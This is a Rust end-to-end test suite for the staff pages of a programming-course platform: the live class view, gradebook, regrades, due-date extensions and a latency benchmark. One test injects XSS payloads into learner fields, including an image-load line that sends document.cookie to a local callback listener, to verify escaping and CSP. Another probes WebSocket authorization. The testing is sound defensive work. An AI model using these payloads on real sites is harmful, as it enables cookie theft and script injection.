//! The staff pages in a real headless Chromium, against the real API, grader
//! and gateway: the live class view updates while two learners submit from
//! two other browser sessions, a learner's socket that asks for the course
//! is refused, and learner text full of markup runs no script on any staff
//! page. Screenshots go to `target/e2e-screenshots/`.

mod chromium;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use chromium::{
    axe_violations, click, screenshot, solution, text, type_code, wait_for, wait_for_any, Browser,
};
use e2e::{first_assignment, learner_token, repo, start_stack, submit_code, Stack};
use fantoccini::Client;
use serde_json::{json, Value};
use service::token::Role;
use testkit::TestEnv;

const PASSWORD: &str = "staff-password-for-tests";

/// Makes an instructor of the default course and signs them in on `b`,
/// waiting for the class view and its live socket.
async fn staff_signed_in(stack: &Stack, b: &Browser, name: &str) {
    programming_api::staff::add(
        &stack.api.ctx.pool,
        "intro",
        Role::Instructor,
        name,
        PASSWORD,
    )
    .await
    .expect("an instructor");
    b.c.goto(&format!("{}/staff", stack.api_url)).await.unwrap();
    wait_for(&b.c, "#sign-in", "Staff sign-in", 10).await;
    b.c.execute(
        "document.getElementById('username').value = arguments[0];
         document.getElementById('password').value = arguments[1];
         document.getElementById('sign-in').requestSubmit();",
        vec![json!(name), json!(PASSWORD)],
    )
    .await
    .unwrap();
    wait_for(&b.c, "#class-title", "Class · ", 10).await;
    wait_for(&b.c, "#connection", "live", 10).await;
}

/// A member of staff signed in, in a browser of their own, on the staff pages'
/// `view` (`gradebook`, `course`, …).
async fn staff_on(stack: &Stack, name: &str, view: &str) -> Browser {
    let staff = Browser::open().await;
    staff_signed_in(stack, &staff, name).await;
    staff
        .c
        .goto(&format!("{}/staff#{view}", stack.api_url))
        .await
        .unwrap();
    staff
}

/// A learner's page on the first assignment, its socket live.
async fn learner_on_first(stack: &Stack) -> Browser {
    let b = Browser::open().await;
    b.c.goto(&stack.api_url).await.unwrap();
    wait_for(&b.c, "#assignment-title", "Hello, function", 10).await;
    wait_for(&b.c, "#connection", "live", 10).await;
    b
}

/// The figure in `column` of the class view's first assignment's row.
async fn first_row(c: &Client, column: &str) -> String {
    text(c, &format!("#class-assignments tr:first-child .{column}")).await
}

async fn wait_first_row(c: &Client, column: &str, want: &str) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    loop {
        let got = first_row(c, column).await;
        if got == want {
            return;
        }
        if tokio::time::Instant::now() > deadline {
            screenshot(c, "staff-failure").await;
            panic!("{column} shows {got:?}, never {want:?}");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Failed submissions stored, all learners together.
async fn failed(stack: &Stack) -> i64 {
    let client = stack.api.ctx.pool.get().await.unwrap();
    client
        .query_one(
            "SELECT count(*) AS n FROM submissions WHERE status = 'failed'",
            &[],
        )
        .await
        .unwrap()
        .get("n")
}

#[tokio::test]
async fn the_class_view_shows_two_learners_verdicts_live() {
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    let staff = Browser::open().await;
    staff_signed_in(&stack, &staff, "ada").await;
    assert_eq!(first_row(&staff.c, "passed").await, "0");
    assert_eq!(first_row(&staff.c, "tried").await, "0");
    // Set on this page's window: still there afterwards means no reload.
    staff
        .c
        .execute("window.notReloaded = true;", vec![])
        .await
        .unwrap();
    screenshot(&staff.c, "staff-1-class-empty").await;

    let wrong = learner_on_first(&stack).await;
    let right = learner_on_first(&stack).await;
    // One learner gives their name on their page; staff see it.
    wrong
        .c
        .execute(
            "document.querySelector('.profile').open = true;
             document.getElementById('display-name').value = 'Wren';
             document.getElementById('profile').requestSubmit();",
            vec![],
        )
        .await
        .unwrap();
    wait_for(&wrong.c, "#profile-status", "Saved", 10).await;
    type_code(&wrong.c, "def greet(name):\n    return 'Hi ' + name\n").await;
    type_code(&right.c, &solution("greeting")).await;
    click(&wrong.c, "submit").await;
    click(&right.c, "submit").await;
    wait_for(&wrong.c, "#status", "Wrong answer", 30).await;
    wait_for(&right.c, "#status", "Passed", 30).await;

    // Both verdicts and the new counts reach the staff page by themselves.
    wait_for(&staff.c, "#feed", "Wrong answer", 15).await;
    wait_for(&staff.c, "#feed", "Passed", 15).await;
    wait_first_row(&staff.c, "tried", "2").await;
    wait_first_row(&staff.c, "passed", "1").await;
    // Two more failures in a row make the wrong learner stuck (the default 3).
    for attempt in 2..=3 {
        type_code(
            &wrong.c,
            &format!("def greet(name):\n    return 'Hi ' + name * {attempt}\n"),
        )
        .await;
        click(&wrong.c, "submit").await;
        // Graded before the next: a learner has one submission in flight.
        testkit::eventually(Duration::from_secs(30), || async {
            failed(&stack).await == i64::from(attempt)
        })
        .await;
        wait_for(&wrong.c, "#status", "Wrong answer", 30).await;
    }
    let stuck = wait_for(&staff.c, "#stuck", "3 failed in a row", 15).await;
    assert!(
        stuck.contains("Hello, function") && stuck.contains("Wren"),
        "{stuck}"
    );
    wait_for(&staff.c, "#feed", "Wren", 5).await;
    let kept: Value = staff
        .c
        .execute("return window.notReloaded === true;", vec![])
        .await
        .unwrap();
    assert_eq!(kept, json!(true), "the staff page reloaded");
    screenshot(&staff.c, "staff-2-class-live").await;

    // The attack: a learner's own token, from their page, asks the gateway
    // for the course's topic. The same socket without it opens (the control).
    let course_id = stack.api.ctx.catalog().default_course().id;
    let socket = "const [course, done] = arguments;
        const meta = document.querySelector('meta[name=\"ws-url\"]').content;
        let url = meta + '?token=' + encodeURIComponent(localStorage.getItem('codeplatform.token'));
        if (course !== null) url += '&course=' + course;
        const ws = new WebSocket(url);
        let opened = false;
        ws.onopen = () => { opened = true; ws.close(); };
        ws.onclose = () => done(opened ? 'opened' : 'refused');";
    let own = wrong
        .c
        .execute_async(socket, vec![Value::Null])
        .await
        .unwrap();
    assert_eq!(own, json!("opened"));
    let course_topic = wrong
        .c
        .execute_async(socket, vec![json!(course_id)])
        .await
        .unwrap();
    assert_eq!(course_topic, json!("refused"));

    for b in [staff, wrong, right] {
        b.close().await;
    }
}

/// Counts every connection made to it: a script that ran would call here.
async fn callback_listener() -> (u16, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let calls = Arc::new(AtomicUsize::new(0));
    let counted = calls.clone();
    tokio::spawn(async move {
        while let Ok((_conn, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, calls)
}

/// Whether a payload ran on the page `c` shows, by its two marks: a global
/// and the page's title.
async fn ran(c: &Client) -> bool {
    let marks: Value = c
        .execute(
            "return [window.PWNED !== undefined, document.title.includes('PWNED')];",
            vec![],
        )
        .await
        .unwrap();
    marks != json!([false, false])
}

/// What learner markup may leave on a page: no element it could have made.
async fn markup_elements(c: &Client) -> i64 {
    c.execute(
        "return document.querySelectorAll('img, svg, iframe, script:not([src])').length;",
        vec![],
    )
    .await
    .unwrap()
    .as_i64()
    .unwrap()
}

/// Neither mark set, no element the markup could have made; a screenshot
/// named `page`.
async fn no_script_ran(c: &Client, page: &str) {
    assert!(!ran(c).await, "a script ran on {page}");
    assert_eq!(
        markup_elements(c).await,
        0,
        "markup became elements on {page}"
    );
    screenshot(c, page).await;
}

#[tokio::test]
async fn learner_markup_runs_no_script_on_any_staff_page() {
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    let (port, calls) = callback_listener().await;
    let call_back = format!("new Image().src='http://127.0.0.1:{port}/'+document.cookie");
    let name = "<img src=x onerror=\"window.PWNED=1\">";
    let number = "<script>window.PWNED=1</script>";
    let tag = format!("<img src=x onerror=\"document.title='PWNED';{call_back}\">");
    let code = format!(
        "# <script>window.PWNED=1;{call_back}</script>\n\
         def greet(name):\n    \
             print(r'''{tag}''')\n    \
             raise ValueError(r'''{tag}<script>window.PWNED=1</script>''')\n"
    );

    // The control: rendered as HTML on a page without our policy, the same
    // payloads run, and the detectors see it.
    let staff = Browser::open().await;
    staff.c.goto("about:blank").await.unwrap();
    staff
        .c
        .execute(
            "document.body.innerHTML = arguments[0];",
            vec![json!(format!("{name}{tag}"))],
        )
        .await
        .unwrap();
    testkit::eventually(Duration::from_secs(5), || async {
        ran(&staff.c).await && calls.load(Ordering::SeqCst) > 0
    })
    .await;
    calls.store(0, Ordering::SeqCst);

    // The learner: a name, a number, code, output and an exception message
    // all carrying markup, graded by the real grader.
    let http = reqwest::Client::new();
    let token = learner_token(&http, &stack.api_url).await;
    let res = http
        .patch(format!("{}/api/me", stack.api_url))
        .bearer_auth(&token)
        .json(&json!({"display_name": name, "student_number": number}))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
    let assignment = first_assignment(&http, &stack.api_url).await;
    let res = submit_code(&http, &stack.api_url, &token, assignment, &code).await;
    assert_eq!(res.status(), 202);

    staff_signed_in(&stack, &staff, "eve-watcher").await;
    let feed = wait_for_any(&staff.c, "#feed", &["Runtime error", "Wrong answer"], 30).await;
    assert!(feed.contains(name), "the name shows as text: {feed}");
    no_script_ran(&staff.c, "staff-3-xss-class").await;

    staff
        .c
        .goto(&format!("{}/staff#gradebook", stack.api_url))
        .await
        .unwrap();
    let book = wait_for(&staff.c, "#book-body", number, 10).await;
    assert!(book.contains(name), "{book}");
    no_script_ran(&staff.c, "staff-4-xss-gradebook").await;

    staff
        .c
        .goto(&format!("{}/staff#class", stack.api_url))
        .await
        .unwrap();
    wait_for_any(&staff.c, "#feed", &["Runtime error", "Wrong answer"], 10).await;
    staff
        .c
        .execute("document.querySelector('#feed a').click();", vec![])
        .await
        .unwrap();
    wait_for(&staff.c, "#submission-code", "window.PWNED", 10).await;
    let output = text(&staff.c, "#submission-output").await;
    assert!(output.contains(&tag), "the output shows as text: {output}");
    let tests = text(&staff.c, "#submission-tests").await;
    assert!(tests.contains(&tag), "the exception shows as text: {tests}");
    let facts = text(&staff.c, "#submission-facts").await;
    assert!(facts.contains(name) && facts.contains(number), "{facts}");
    no_script_ran(&staff.c, "staff-5-xss-submission").await;

    // Nothing called back, and every staff page carries the policy.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(calls.load(Ordering::SeqCst), 0, "a payload called back");
    let page = http
        .get(format!("{}/staff", stack.api_url))
        .send()
        .await
        .unwrap();
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    staff.close().await;
}

/// The benchmark `scripts/bench-class-view.sh` runs (ignored by the suite:
/// speed is measured, never asserted): SUBMISSIONS learners each submit once,
/// one after another, over HTTP, while a staff page is open; the page notes
/// the moment each verdict's row shows, and that is set against the moment
/// the grader wrote the verdict (`graded_at`, same machine clock). Writes
/// the delays in milliseconds to `BENCH_OUT`.
#[tokio::test]
#[ignore = "a benchmark: scripts/bench-class-view.sh"]
async fn bench_verdict_to_staff_page() {
    let count: usize = std::env::var("SUBMISSIONS").map_or(30, |n| n.parse().unwrap());
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    let staff = Browser::open().await;
    staff_signed_in(&stack, &staff, "bench").await;
    // Each row's first showing of a final verdict, in epoch milliseconds.
    staff
        .c
        .execute(
            "window.shownAt = {};
             new MutationObserver(() => {
               for (const tr of document.querySelectorAll('#feed tr')) {
                 const id = tr.dataset.submission;
                 const v = tr.querySelector('.verdict');
                 if (id && !(id in window.shownAt) && v && !v.textContent.startsWith('…')) {
                   window.shownAt[id] = performance.timeOrigin + performance.now();
                 }
               }
             }).observe(document.getElementById('feed'), { childList: true, subtree: true, characterData: true });",
            vec![],
        )
        .await
        .unwrap();
    let http = reqwest::Client::new();
    let assignment = first_assignment(&http, &stack.api_url).await;
    let code = solution("greeting");
    let mut delays = Vec::new();
    for i in 0..count {
        let token = learner_token(&http, &stack.api_url).await;
        // Distinct code each time: a reused verdict would not be graded.
        let body: Value = submit_code(
            &http,
            &stack.api_url,
            &token,
            assignment,
            &format!("{code}\n# {i}\n"),
        )
        .await
        .json()
        .await
        .unwrap();
        let id = body["submission"]["id"].as_str().unwrap().to_owned();
        let mut shown = Value::Null;
        for _ in 0..300 {
            shown = staff
                .c
                .execute(
                    "return window.shownAt[arguments[0]] ?? null;",
                    vec![json!(id)],
                )
                .await
                .unwrap();
            if !shown.is_null() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        let shown = shown.as_f64().expect("the verdict reached the staff page");
        let graded: f64 = stack
            .api
            .ctx
            .pool
            .get()
            .await
            .unwrap()
            .query_one(
                "SELECT extract(epoch FROM graded_at)::float8 * 1000 AS graded_ms FROM submissions
                 WHERE id = $1::text::uuid",
                &[&id],
            )
            .await
            .unwrap()
            .get("graded_ms");
        delays.push(shown - graded);
    }
    let out = std::env::var("BENCH_OUT").unwrap_or_else(|_| "target/class-view-delays.txt".into());
    let lines: Vec<String> = delays.iter().map(|d| format!("{d:.1}")).collect();
    std::fs::write(&out, lines.join("\n") + "\n").unwrap();
    println!("verdict → staff page, ms: {lines:?}");
    staff.close().await;
}

#[tokio::test]
async fn an_instructor_sees_versions_regrades_from_the_page_and_the_learner_sees_why() {
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    let http = reqwest::Client::new();
    // A learner passes the greeting on their page.
    let learner = learner_on_first(&stack).await;
    type_code(&learner.c, &solution("greeting")).await;
    click(&learner.c, "submit").await;
    wait_for(&learner.c, "#points", "100", 60).await;

    let staff = staff_on(&stack, "ada", "course").await;
    wait_for(&staff.c, "#versions", "served now", 10).await;

    // A version whose greeting strips names, published from a terminal
    // (here: its HTTP request), then shown on the page once checked.
    let token: Value = http
        .post(format!("{}/api/staff/sessions", stack.api_url))
        .json(&json!({"username": "ada", "password": PASSWORD}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let archive = e2e::course_archive(1, |dir| {
        let tests = dir.join("01-greeting/test_solution.py");
        let mut text = std::fs::read_to_string(&tests).unwrap();
        text.push_str("\n    def test_strips_spaces(self):\n        self.assertEqual(greet(\" Ada \"), \"Hello, Ada!\")\n");
        std::fs::write(&tests, text).unwrap();
        std::fs::write(
            dir.join("01-greeting/solution.py"),
            "def greet(name):\n    return f\"Hello, {name.strip() or 'world'}!\"\n",
        )
        .unwrap();
    });
    let published = http
        .post(format!("{}/api/courses/intro/versions", stack.api_url))
        .bearer_auth(token["token"].as_str().unwrap())
        .header("content-type", "application/gzip")
        .body(archive)
        .send()
        .await
        .unwrap();
    assert_eq!(published.status(), 202);
    let served = testkit::eventually(Duration::from_secs(60), || async {
        staff.c.refresh().await.unwrap();
        wait_for_any(&staff.c, "#versions", &["served now"], 5).await;
        text(&staff.c, "#versions tr:first-child")
            .await
            .contains("served now")
    })
    .await;
    assert!(served, "{}", text(&staff.c, "#versions").await);
    screenshot(&staff.c, "course-versions").await;

    // The regrade, from the form: recompute, and its progress to the end.
    staff
        .c
        .execute(
            "document.querySelector('input[name=points][value=recompute]').checked = true;
             document.getElementById('regrade-form').requestSubmit();",
            vec![],
        )
        .await
        .unwrap();
    wait_for(
        &staff.c,
        "#regrade-progress",
        "1 of 1 submissions judged again",
        60,
    )
    .await;
    wait_for(&staff.c, "#regrade-progress", "done", 10).await;
    assert!(text(&staff.c, "#regrade-progress")
        .await
        .contains("1 learners' points changed"));
    screenshot(&staff.c, "course-regrade").await;

    // The learner sees their points go, and why.
    learner.c.refresh().await.unwrap();
    wait_for(&learner.c, "#point-changes", "100 → 0 points", 15).await;
    assert_eq!(text(&learner.c, "#points").await, "0");
    assert!(text(&learner.c, "#point-changes")
        .await
        .contains("regraded"));
    screenshot(&learner.c, "learner-point-change").await;
}

#[tokio::test]
async fn an_instructor_extends_a_due_date_and_sets_points_from_a_learners_page() {
    let env = TestEnv::new().await;
    // The course with a due date on the greeting, to extend.
    let root = tempfile_root();
    testkit::copy_dir(&repo().join("courses/intro"), &root.join("intro"));
    let manifest = root.join("intro/01-greeting/assignment.toml");
    let toml = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, toml + "due_at = 2030-06-30T23:59:00Z\n").unwrap();
    let stack = start_stack(&env, &root).await;
    let http = reqwest::Client::new();
    let learner = learner_token(&http, &stack.api_url).await;
    let first = first_assignment(&http, &stack.api_url).await;
    let me: Value = http
        .get(format!("{}/api/me", stack.api_url))
        .bearer_auth(&learner)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let user_id = me["user_id"].as_str().unwrap().to_owned();
    submit_code(
        &http,
        &stack.api_url,
        &learner,
        first,
        "def greet(name):\n    return 'hi'\n",
    )
    .await;

    let staff = Browser::open().await;
    staff_signed_in(&stack, &staff, "ada").await;
    // The gradebook's name cell leads to the learner's page.
    staff
        .c
        .goto(&format!("{}/staff#gradebook", stack.api_url))
        .await
        .unwrap();
    // The count is written once the rows are in.
    wait_for(&staff.c, "#book-count", "1 of 1 learners", 10).await;
    staff
        .c
        .execute(
            "document.querySelector(`#book-body a[href$='#learner/${arguments[0]}']`).click();",
            vec![json!(user_id)],
        )
        .await
        .unwrap();
    wait_for(&staff.c, "#learner-assignments", "Hello, function", 10).await;
    let row = "#learner-assignments tr[data-assignment=greeting]";
    wait_for(&staff.c, row, "2030", 10).await;

    // An extension, from the page.
    staff
        .c
        .execute(
            "const row = document.querySelector(arguments[0]);
             row.querySelector('.extend-to').value = '2030-07-15T12:00';
             row.querySelector('form.extend').requestSubmit();",
            vec![json!(row)],
        )
        .await
        .unwrap();
    wait_for(&staff.c, row, "(extended)", 10).await;
    // Manual points with a reason, from the page.
    staff
        .c
        .execute(
            "const row = document.querySelector(arguments[0]);
             row.querySelector('.override-points').value = '55';
             row.querySelector('.override-reason').value = 'Accepted on paper in class.';
             row.querySelector('form.override-form').requestSubmit();",
            vec![json!(row)],
        )
        .await
        .unwrap();
    wait_for(&staff.c, row, "Set to 55: Accepted on paper in class.", 10).await;
    assert_eq!(text(&staff.c, "#learner-points").await, "55");
    // Points set by hand are no pass: the learner's best is still a fail.
    assert_eq!(
        text(&staff.c, &format!("{row} td:nth-of-type(1)")).await,
        "failed"
    );
    screenshot(&staff.c, "learner-page").await;

    // Both are what the API now says.
    let extensions: Value = http
        .get(format!("{}/api/me", stack.api_url))
        .bearer_auth(&learner)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(extensions["points"], 55);
    assert!(extensions["extensions"][first.to_string()]
        .as_str()
        .unwrap()
        .starts_with("2030-07-15"));
    assert_eq!(extensions["point_changes"][0]["new_points"], 55);

    // And are taken back from the page, one after the other (each re-reads
    // the page when it lands).
    for gone in ["(extended)", "Set to 55"] {
        staff
            .c
            .execute(
                "const row = document.querySelector(arguments[0]);
                 [...row.querySelectorAll('button')].find((b) => b.textContent.startsWith('Remove')).click();",
                vec![json!(row)],
            )
            .await
            .unwrap();
        let removed = testkit::eventually(Duration::from_secs(10), || async {
            !text(&staff.c, row).await.contains(gone)
        })
        .await;
        assert!(removed, "{gone}: {}", text(&staff.c, row).await);
    }
    assert_eq!(text(&staff.c, "#learner-points").await, "0");

    // All their work, from their page.
    staff
        .c
        .execute(
            "document.querySelector(`#learner-facts a[href$='#submissions/${arguments[0]}/all']`).click();",
            vec![json!(user_id)],
        )
        .await
        .unwrap();
    wait_for(&staff.c, "#history-title", "every assignment", 10).await;
    wait_for(&staff.c, "#history-rows", "Hello, function", 10).await;
}

/// A fresh folder under the system's temporary one.
fn tempfile_root() -> std::path::PathBuf {
    let root = std::env::temp_dir().join(format!("cp-staff-{}", uuid::Uuid::new_v4().simple()));
    std::fs::create_dir_all(&root).unwrap();
    root
}

/// A learner of the default course with `profile` (or none), who submits
/// `code` to its first assignment and waits for the verdict.
async fn graded_learner(stack: &Stack, profile: Option<Value>, code: &str) -> String {
    let http = reqwest::Client::new();
    let token = learner_token(&http, &stack.api_url).await;
    if let Some(profile) = profile {
        let res = http
            .patch(format!("{}/api/me", stack.api_url))
            .bearer_auth(&token)
            .json(&profile)
            .send()
            .await
            .unwrap();
        assert!(res.status().is_success());
    }
    let first = first_assignment(&http, &stack.api_url).await;
    let sent: Value = submit_code(&http, &stack.api_url, &token, first, code)
        .await
        .json()
        .await
        .unwrap();
    let id = sent["submission"]["id"].as_str().unwrap().to_owned();
    let done = testkit::eventually(Duration::from_secs(20), || async {
        let s: Value = http
            .get(format!("{}/api/submissions/{id}", stack.api_url))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        s["submission"]["verdict"].is_string()
    })
    .await;
    assert!(done, "graded");
    id
}

/// The gradebook's learner names, top to bottom, as shown.
async fn book_names(c: &Client) -> Vec<String> {
    let names: Value = c
        .execute(
            "return [...document.querySelectorAll('#book-body th[scope=row]')].map((t) => t.textContent);",
            vec![],
        )
        .await
        .unwrap();
    serde_json::from_value(names).unwrap()
}

#[tokio::test]
async fn the_gradebook_sorts_searches_filters_and_leads_from_a_cell_to_the_submissions() {
    use fantoccini::Locator;
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    let passed = graded_learner(
        &stack,
        Some(json!({"display_name": "Zoe", "student_number": "s-042"})),
        &solution("greeting"),
    )
    .await;
    graded_learner(&stack, Some(json!({"display_name": "Adam"})), "x = 1\n").await;
    graded_learner(&stack, None, "x = 2\n").await;

    let staff = staff_on(&stack, "ada", "gradebook").await;
    wait_for(&staff.c, "#book-count", "3 of 3 learners", 10).await;
    let names = book_names(&staff.c).await;
    assert_eq!(names[0], "Adam", "by name at first: {names:?}");
    assert_eq!(names[2], "Zoe", "{names:?}");

    // Points, clicked: lowest first; clicked again, highest first.
    let points = Locator::Css("#book-head th[data-key=points] button");
    staff.c.find(points).await.unwrap().click().await.unwrap();
    assert_eq!(book_names(&staff.c).await[2], "Zoe");
    staff.c.find(points).await.unwrap().click().await.unwrap();
    assert_eq!(book_names(&staff.c).await[0], "Zoe");
    let sorted: Value = staff
        .c
        .execute(
            "return document.querySelector('#book-head th[data-key=points]').getAttribute('aria-sort');",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(sorted, "descending");

    // A student number, typed: only its learner.
    let search = staff.c.find(Locator::Id("book-search")).await.unwrap();
    search.send_keys("s-042").await.unwrap();
    wait_for(&staff.c, "#book-count", "1 of 3 learners", 5).await;
    assert_eq!(book_names(&staff.c).await, ["Zoe"]);
    search.clear().await.unwrap();
    staff
        .c
        .execute(
            "const s = document.getElementById('book-search'); s.dispatchEvent(new Event('input'));
             const f = document.getElementById('book-filter'); f.value = 'named';
             f.dispatchEvent(new Event('change'));",
            vec![],
        )
        .await
        .unwrap();
    wait_for(&staff.c, "#book-count", "2 of 3 learners", 5).await;
    // The name column stays put while the table scrolls sideways.
    let position: Value = staff
        .c
        .execute(
            "return getComputedStyle(document.querySelector('#book-body th[scope=row]')).position;",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(position, "sticky");
    screenshot(&staff.c, "gradebook-sorted").await;
    let violations = axe_violations(&staff.c).await;
    assert!(
        violations.is_empty(),
        "axe-core, gradebook: {violations:#?}"
    );

    // Zoe's cell leads to her submissions there, and on to the one (the
    // table scrolled back first: axe scrolls through the page).
    staff
        .c
        .execute(
            "document.querySelector('#gradebook .scroll').scrollLeft = 0;",
            vec![],
        )
        .await
        .unwrap();
    staff
        .c
        .find(Locator::Css("#book-body tr:first-child td.cell a"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_for(&staff.c, "#history-title", "Submissions · Zoe · ", 10).await;
    let link = format!("#history-rows a[href$='#submission/{passed}']");
    staff
        .c
        .find(Locator::Css(&link))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    wait_for(&staff.c, "#submission-code", "def greet", 10).await;
    // The class view, with its live feed, has none either.
    staff
        .c
        .goto(&format!("{}/staff#class", stack.api_url))
        .await
        .unwrap();
    wait_for(&staff.c, "#feed", "Zoe", 10).await;
    let violations = axe_violations(&staff.c).await;
    assert!(
        violations.is_empty(),
        "axe-core, class view: {violations:#?}"
    );
}

#[tokio::test]
async fn a_large_gradebook_shows_two_hundred_rows_at_a_time_and_sorts_them_all() {
    let env = TestEnv::new().await;
    let stack = start_stack(&env, &repo().join("courses")).await;
    env.pool
        .get()
        .await
        .unwrap()
        .batch_execute(
            "INSERT INTO users (id, display_name)
                 SELECT gen_random_uuid(), 'Learner ' || lpad(g::text, 3, '0')
                 FROM generate_series(1, 250) g;
             INSERT INTO enrolments (user_id, course_id)
                 SELECT id, (SELECT id FROM courses WHERE slug = 'intro') FROM users;",
        )
        .await
        .unwrap();
    let staff = staff_on(&stack, "ada", "gradebook").await;
    wait_for(&staff.c, "#book-count", "250 of 250 learners", 10).await;
    assert_eq!(book_names(&staff.c).await.len(), 200);
    assert_eq!(
        text(&staff.c, "#book-more").await,
        "Show 50 more (200 of 250 shown)"
    );
    // A sort runs over every learner, not the rows shown.
    let name = fantoccini::Locator::Css("#book-head th[data-key=name] button");
    staff.c.find(name).await.unwrap().click().await.unwrap();
    assert_eq!(book_names(&staff.c).await[0], "Learner 250");
    click(&staff.c, "book-more").await;
    let names = book_names(&staff.c).await;
    assert_eq!(names.len(), 250);
    assert_eq!(names[249], "Learner 001");
    assert_eq!(text(&staff.c, "#book-more").await, "", "no more to show");
}
